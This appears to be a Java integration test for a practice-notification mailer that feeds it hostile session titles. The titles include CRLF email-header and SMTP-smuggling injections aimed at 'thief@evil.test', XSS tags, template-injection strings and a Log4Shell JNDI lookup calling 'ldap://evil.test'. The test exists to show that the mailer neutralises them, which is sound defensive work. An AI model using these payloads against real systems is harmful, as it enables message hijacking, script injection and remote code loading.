package dev.sthira.notification.channel;

import static java.time.Duration.ofSeconds;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.sthira.devstack.kafka.Broker;
import dev.sthira.devstack.mail.MailServer;
import dev.sthira.notification.TestStack;
import dev.sthira.notification.message.Practitioner;
import dev.sthira.notification.practice.Events;
import dev.sthira.notification.practice.Topic;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.util.Locale;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Whatever a class is called, the mail has our headers only, and its text is text.
@QuarkusTest
@QuarkusTestResource(TestStack.class)
class HostileTextTest {
    private static final Set<String> OUR_HEADERS = Set.of(
            "return-path",
            "received",
            "delivered-to",
            "message-id",
            "date",
            "from",
            "to",
            "subject",
            "mime-version",
            "content-type",
            "content-transfer-encoding",
            "auto-submitted",
            "content-language",
            "list-unsubscribe",
            "list-unsubscribe-post",
            "user-agent",
            "bounce-address");

    Broker broker;
    MailServer mails;

    private final Practitioner maya = Practitioner.someone();

    @BeforeEach
    void withAnAddress() {
        maya.withContact();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\nBcc: thief@evil.test",
                "a\nBcc: thief@evil.test",
                "a\rBcc: thief@evil.test",
                "a\r\n\r\n<script>alert(1)</script>",
                "a\r\n.\r\nMAIL FROM:<thief@evil.test>",
                "a\u0085Bcc: thief@evil.test",
                "a\u2028Bcc: thief@evil.test",
                "a\u2029b",
                "a\u760d\u760aBcc: thief@evil.test",
                "čáp\u010d\u010aBcc: thief@evil.test",
                "<img src=x onerror=alert(1)>",
                "</title></style><script>alert(1)</script>",
                "\"><a href=https://evil.test>",
                "{letter.reason}{inject:mailer}{#for i in 5}x{/for}",
                "${jndi:ldap://evil.test/a}",
                "{{7*7}}",
                "%0d%0aBcc: x",
                "=?utf-8?Q?a=0D=0ABcc:_thief@evil.test?=",
                "a\u202eb\u2066c",
                "🧘🏽‍♀️ Śavāsana",
                "💪 Kraft",
                "Ein sehr langer Titel mit Umlauten äöü und 💪💪💪💪💪💪💪💪💪💪 und 👨‍👩‍👧‍👦👨‍👩‍👧‍👦",
                "می‌خواهم یوگا",
                "क्‍ष योग",
                "𝒮𝓉𝒽𝒾𝓇𝒶 𐐷",
                "=\r\n=41",
                "."
            })
    void sendsItAsText(String title) {
        try (var topic = Topic.on(broker.bootstrapServers())) {
            topic.publish(Events.example("session-completed")
                    .of(maya.subject(), UUID.randomUUID())
                    .with(value -> value.withObject("/sequence").put("title", title)));
        }

        await().atMost(ofSeconds(30))
                .until(() ->
                        mails.messages().stream().anyMatch(mail -> mail.to().contains(maya.email())));
        assertThat(mails.messages())
                .filteredOn(mail -> mail.to().contains(maya.email()))
                .singleElement()
                .satisfies(mail -> {
                    assertThat(mail.to()).containsExactly(maya.email());
                    assertThat(mail.headers().keySet())
                            .allSatisfy(name -> assertThat(OUR_HEADERS).contains(name.toLowerCase(Locale.ROOT)));
                    assertThat(mail.subject())
                            .startsWith("Well done: ")
                            .doesNotContainPattern("[\\r\\n\\u0085\\u2028\\u2029\\u202e]");
                    assertThat(mail.html()).doesNotContain("<script", "<img", "<a href=https://evil.test");
                    assertThat(mail.text())
                            .contains("You went all the way through")
                            .doesNotContain("xxxxx");
                    if (!title.contains("\r") && !title.contains("\n")) {
                        assertThat(mail.text()).contains(title);
                    }
                    if (title.codePoints().anyMatch(point -> point > 0xffff || point == 0x200c || point == 0x200d)) {
                        assertThat(mail.subject()).isEqualTo("Well done: " + title);
                    }
                });
        assertThat(mails.messages()).noneMatch(mail -> mail.to().stream().anyMatch(to -> to.contains("evil.test")));
    }
}
